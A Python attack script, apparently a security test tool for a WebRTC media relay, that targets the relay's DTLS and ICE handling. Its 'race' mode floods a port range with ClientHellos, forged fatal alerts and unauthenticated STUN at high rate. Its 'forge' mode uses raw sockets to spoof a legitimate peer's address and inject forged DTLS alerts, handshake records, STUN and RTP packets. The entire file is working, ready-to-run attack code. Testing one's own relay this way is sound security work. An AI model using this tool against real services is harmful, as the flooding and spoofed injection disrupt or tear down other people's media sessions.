#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
"""Attacks on the DTLS and ICE of a relay.

  dtls_attack.py race ADDR:LOW-HIGH --bind ADDR --seconds S --rate N
      from an address that nobody has named: a ClientHello, forged alerts and STUN without
      credentials to each of the ports, over and over
  dtls_attack.py forge ADDR:PORT --from ADDR:PORT --count N
      with the exact address of a party as its source: what anybody can make up who knows that

Prints a line of JSON: datagrams and bytes sent, and what came back, by kind.
"""
import argparse
import itertools
import json
import os
import select
import socket
import struct
import time

from OpenSSL import SSL

HANDSHAKE, ALERT, CCS, DATA = 22, 21, 20, 23


def client_hello():
    context = SSL.Context(SSL.DTLS_METHOD)
    context.set_tlsext_use_srtp(b"SRTP_AES128_CM_SHA1_80:SRTP_AEAD_AES_128_GCM")
    ssl = SSL.Connection(context, None)
    ssl.set_connect_state()
    try:
        ssl.do_handshake()
    except SSL.WantReadError:
        pass
    return ssl.bio_read(4096)


def record(kind, epoch, seq, body):
    return struct.pack("!BHHHIH", kind, 0xfefd, epoch, 0, seq, len(body)) + body


def stun_request():
    name = b"guess:work"
    attribute = struct.pack("!HH", 6, len(name)) + name + b"\0" * (-len(name) % 4)
    return struct.pack("!HHI", 1, len(attribute), 0x2112a442) + os.urandom(12) + attribute


def rtp(seq):
    return struct.pack("!BBHII", 0x80, 111, seq & 0xffff, seq * 960, 0xdead0001) + os.urandom(90)


def kind_of(data):
    if data[0] <= 3:
        return "stun"
    return "dtls" if 20 <= data[0] <= 63 else "other"


def race(args):
    host, _, ports = args.to.rpartition(":")
    low, _, high = ports.partition("-")
    hello = client_hello()
    report = {"sent": 0, "bytes_sent": 0, "stun": 0, "dtls": 0, "other": 0, "bytes_back": 0}
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((args.bind, 0))
    sock.setblocking(False)
    begin = time.monotonic()

    def take():
        while select.select([sock], [], [], 0)[0]:
            data = sock.recv(4096)
            report[kind_of(data)] += 1
            report["bytes_back"] += len(data)

    for n in itertools.count():
        payloads = (hello, record(ALERT, 0, n, b"\2\50"), stun_request())
        for port in range(int(low), int(high or low) + 1):
            data = payloads[(n + port) % 3]
            try:
                sock.sendto(data, (host, port))
            except OSError:
                continue
            report["sent"] += 1
            report["bytes_sent"] += len(data)
            ahead = report["sent"] / args.rate - (time.monotonic() - begin)
            if ahead > 0.01:
                take()
                time.sleep(ahead)
        if time.monotonic() - begin >= args.seconds:
            break
    time.sleep(0.3)
    take()
    return report


def forge(args):
    """Nothing is bound to the source: what is sent back goes to the party."""
    (host, _, port), (source, _, source_port) = args.to.rpartition(":"), args.source.rpartition(":")
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    hello, sent = client_hello(), 0
    for n in range(args.count):
        for data in (record(ALERT, 0, 1000 + n, b"\2\50"), record(ALERT, 0, 9000 + n, b"\1\0"),
                     record(ALERT, 1, 1000 + n, os.urandom(26)), record(CCS, 0, 2000 + n, b"\1"),
                     record(HANDSHAKE, 1, 3000 + n, os.urandom(60)),
                     record(DATA, 1, 4000 + n, os.urandom(60)), hello, stun_request(), rtp(n)):
            udp = struct.pack("!HHHH", int(source_port), int(port), 8 + len(data), 0) + data
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                             socket.inet_aton(source), socket.inet_aton(host))
            raw.sendto(ip + udp, (host, 0))
            sent += 1
        time.sleep(0.002)
    return {"sent": sent}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("how", choices=("race", "forge"))
    parser.add_argument("to")
    parser.add_argument("--bind", default="0.0.0.0")
    parser.add_argument("--from", dest="source")
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--rate", type=float, default=20000)
    parser.add_argument("--count", type=int, default=100)
    args = parser.parse_args()
    print(json.dumps(race(args) if args.how == "race" else forge(args)), flush=True)


if __name__ == "__main__":
    main()
